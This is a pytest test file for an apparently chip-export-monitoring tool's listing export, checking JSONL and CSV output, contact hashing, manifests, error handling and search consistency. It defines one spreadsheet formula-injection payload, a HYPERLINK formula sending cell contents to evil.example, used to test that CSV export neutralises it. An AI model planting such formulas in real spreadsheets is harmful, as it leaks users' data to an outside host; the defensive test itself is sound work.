"""Exports from a real store: exactly what a search finds, whole, and described."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from extract.records import Money, Side
from foundation.errors import ChipwatchError, UsageError
from foundation.ids import sha256_hex
from index.documents import Listing
from index.opening import open_store
from index.store import Batch, Query, Store
from leads.export.cells import read_rows
from leads.export.exporting import Request, export
from leads.export.manifest import Manifest
from leads.export.offer_keys import OFFER_KEYS
from leads.weights import load_weights
from tests.leads.listings import SEEN, contact, listing, offer, span

WEIGHTS = load_weights()
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEXT = "H100 整机 34X万,香港交货,微信 gpu_fan88"


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with open_store(f"sqlite:///{tmp_path / 'index.db'}") as opened:
        yield opened


def filled(store: Store, *documents: Listing) -> Store:
    store.write(Batch(documents=documents))
    return store


def request(**changes: Any) -> Request:
    return Request(**{"what": "listings", "to": "jsonl", "contacts": "hashed", "now": SEEN, **changes})


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line, parse_float=Decimal) for line in path.read_text("utf-8").splitlines()]


def table(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        head, *rows = read_rows(file)
    return [dict(zip(head, row, strict=True)) for row in rows]


def bargain() -> Listing:
    goods = offer(
        model="H100",
        form="server",
        price=Decimal("2350000.50"),
        alt_prices=(Money(amount=Decimal(330000), currency="USD", basis="each", unit="server"),),
        masked_price="34X万",
        verbatim=TEXT,
        evidence=(span(TEXT, "H100", "model"), span(TEXT, "34X万", "masked_price")),
    )
    return listing("1", title=EVIL, text=TEXT, offers=(goods,), contacts=(contact(TEXT, "gpu_fan88"),))


def test_jsonl_listing_has_what_programs_ask_for(store: Store, tmp_path: Path) -> None:
    subject = bargain()
    export(filled(store, subject), request(), WEIGHTS, tmp_path / "out.jsonl")
    (shown,) = lines(tmp_path / "out.jsonl")
    assert {"id", "urls", "site", "title", "seller", "state", "first_seen", "last_seen", "offers"} <= set(shown)
    assert shown["id"] == subject.id
    assert shown["title"] == EVIL
    (goods,) = shown["offers"]
    assert tuple(goods) == OFFER_KEYS
    assert goods["price"] == Decimal("2350000.50")
    assert goods["alt_prices"][0]["price"] == 330000
    assert "2350000.50" in (tmp_path / "out.jsonl").read_text("utf-8")
    assert shown["evidence"]["sha256"] == subject.evidence.sha256
    assert (shown["evidence"]["warc_file"], shown["evidence"]["warc_offset"]) == (
        subject.evidence.warc_file,
        12,
    )
    assert [piece["text"] for piece in shown["offer_evidence"][0]] == ["H100", "34X万"]


def test_csv_is_safe_and_comes_back(store: Store, tmp_path: Path) -> None:
    export(filled(store, bargain()), request(to="csv"), WEIGHTS, tmp_path / "out.csv")
    assert f"\"'{EVIL[:10]}" in (tmp_path / "out.csv").read_text("utf-8")
    (row,) = table(tmp_path / "out.csv")
    assert row["title"] == EVIL
    assert row["price"] == "2350000.50"
    assert row["models"] == "H100"
    assert json.loads(row["offers"])[0]["masked_price"] == "34X万"
    assert row["evidence_warc_offset"] == "12"


def test_leads_carry_their_reasons_in_both_forms(store: Store, tmp_path: Path) -> None:
    filled(store, bargain(), listing("2"))
    export(store, request(what="leads"), WEIGHTS, tmp_path / "out.jsonl")
    export(store, request(what="leads", to="csv"), WEIGHTS, tmp_path / "out.csv")
    (lead,) = lines(tmp_path / "out.jsonl")
    (row,) = table(tmp_path / "out.csv")
    assert lead["score"] == int(row["score"]) == sum(reason["points"] for reason in lead["reasons"])
    assert {reason["flag"] for reason in lead["reasons"]} == {
        "controlled_model",
        "hong_kong_delivery",
        "masked_price",
    }
    assert all(reason["label"] in row["reasons"] and reason["sources"] for reason in lead["reasons"])
    assert lead["listing"]["id"] == lead["listing_id"] == row["id"]


@pytest.mark.parametrize("to", ["csv", "jsonl"])
@pytest.mark.parametrize("what", ["listings", "leads"])
def test_hashed_export_repeats_no_contact(store: Store, tmp_path: Path, what: str, to: str) -> None:
    export(filled(store, bargain()), request(what=what, to=to), WEIGHTS, tmp_path / "out")
    content = (tmp_path / "out").read_text("utf-8")
    assert "gpu_fan88" not in content
    assert "gp*******" in content


def test_manifest_says_what_the_file_is(store: Store, tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    export(filled(store, bargain(), listing("2")), request(to="csv", query="H100", bom=True), WEIGHTS, target)
    manifest = Manifest.model_validate_json((tmp_path / "out.csv.meta.json").read_text("utf-8"))
    assert (manifest.query, manifest.count, manifest.contacts) == ("H100", 1, "hashed")
    assert manifest.exported_at == SEEN
    assert manifest.extractors == ("1",)
    assert manifest.sha256 == sha256_hex(target.read_bytes())
    assert target.read_bytes().startswith("\ufeff".encode())


@pytest.mark.parametrize("what", ["listings", "leads"])
def test_mistake_in_the_query_touches_no_file(store: Store, tmp_path: Path, what: str) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old")
    with pytest.raises(UsageError):
        export(store, request(what=what, query="nosuchfield:1"), WEIGHTS, target)
    assert target.read_text() == "old"
    assert not (tmp_path / "out.csv.meta.json").exists()


def test_unwritable_place_leaves_neither_file(store: Store, tmp_path: Path) -> None:
    with pytest.raises(ChipwatchError, match="make the directory"):
        export(store, request(), WEIGHTS, tmp_path / "absent" / "out.jsonl")
    (tmp_path / "taken.jsonl.meta.json").mkdir()
    with pytest.raises(ChipwatchError, match="is a directory"):
        export(store, request(), WEIGHTS, tmp_path / "taken.jsonl")
    assert not list(tmp_path.glob("*.part"))
    assert not (tmp_path / "taken.jsonl").exists()


def test_empty_result_is_a_file_of_no_records(store: Store, tmp_path: Path) -> None:
    assert export(store, request(), WEIGHTS, tmp_path / "out.jsonl").count == 0
    assert (tmp_path / "out.jsonl").read_bytes() == b""
    export(store, request(to="csv"), WEIGHTS, tmp_path / "out.csv")
    assert table(tmp_path / "out.csv") == []


facts = st.fixed_dictionaries(
    {
        "source": st.sampled_from(["forum", "market"]),
        "state": st.sampled_from(["live", "gone"]),
        "seller": st.sampled_from(["Ann", "北斗", None]),
        "model": st.sampled_from(["H100", "A100", "RTX 4090 D"]),
        "count": st.none() | st.integers(0, 300),
        "side": st.sampled_from([Side.OFFER, Side.WANTED]),
    }
)
QUERIES: dict[str, Callable[[dict[str, Any]], bool]] = {
    "": lambda f: True,
    "source:forum": lambda f: f["source"] == "forum",
    "state:live AND model:H100": lambda f: f["state"] == "live" and f["model"] == "H100",
    "gpu_count:[100 TO *]": lambda f: f["count"] is not None and f["count"] >= 100 and f["side"] == Side.OFFER,
    "NOT source:market": lambda f: f["source"] != "market",
    'model:"RTX 4090 D" OR seller:北斗': lambda f: f["model"] == "RTX 4090 D" or f["seller"] == "北斗",
    "side:wanted": lambda f: f["side"] == Side.WANTED,
}


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(facts, max_size=12), st.sampled_from(sorted(QUERIES)))
def test_export_is_exactly_what_the_search_finds(tmp_path: Path, rows: list[dict[str, Any]], query: str) -> None:
    documents = [
        listing(
            str(number),
            source=row["source"],
            state=row["state"],
            seller=row["seller"],
            side=row["side"],
            offers=[offer(model=row["model"], side=row["side"], gpu_count=row["count"])],
        )
        for number, row in enumerate(rows)
    ]
    subjects = {document.id: row for document, row in zip(documents, rows, strict=True)}
    with open_store(f"sqlite:///{tmp_path / 'exact.db'}") as store:
        store.reset()
        filled(store, *documents)
        expected = {key for key, row in subjects.items() if QUERIES[query](row)}
        searched = {found.id for found in store.search(Query(text=query, limit=1000)).documents}
        export(store, request(query=query), WEIGHTS, tmp_path / "exact.jsonl")
        export(store, request(query=query, to="csv"), WEIGHTS, tmp_path / "exact.csv")
        export(store, request(query=query, what="leads"), WEIGHTS, tmp_path / "leads.jsonl")
    assert {line["id"] for line in lines(tmp_path / "exact.jsonl")} == expected == searched
    assert {row["id"] for row in table(tmp_path / "exact.csv")} == expected
    leads = {line["listing_id"] for line in lines(tmp_path / "leads.jsonl")}
    assert leads <= {key for key in expected if subjects[key]["side"] == Side.OFFER}
